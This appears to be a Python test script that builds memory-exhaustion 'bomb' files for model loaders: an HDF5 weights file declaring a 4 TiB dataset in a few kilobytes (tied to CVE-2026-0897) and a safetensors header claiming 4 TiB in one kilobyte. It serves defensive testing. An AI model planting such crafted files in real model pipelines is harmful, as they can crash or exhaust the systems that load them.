"""Announce 4 TiB in HDF5 weights of a few kilobytes (CVE-2026-0897), and in our own format."""

from __future__ import annotations

import _build
import h5py
from _run import Place, Variant, main
from lambda_in_keras import four


def bomb(place: Place) -> bytes:
    """A dataset of 2^40 numbers, none of which is there."""
    path = place.marker.with_name("made.h5")
    with h5py.File(path, "w") as file:
        file.create_dataset("layers/dense/vars/0", (2**20, 2**20), "f4", chunks=(1024, 1024))
    content = path.read_bytes()
    path.unlink()
    return content


def in_ours(place: Place) -> None:
    """A header that announces 4 TiB in a file of a kilobyte."""
    shape = {"dtype": "F32", "shape": [2**20, 2**20], "data_offsets": [0, 2**42]}
    _build.numbers(place.run / "model.safetensors", {"arrays/0000/w": shape}, b"\0" * 1024)
    _build.reseal(place.run)


VARIANTS = [*four("4 TiB", bomb), Variant("4 TiB in a header of safetensors", in_ours)]

if __name__ == "__main__":
    main(__doc__, VARIANTS)
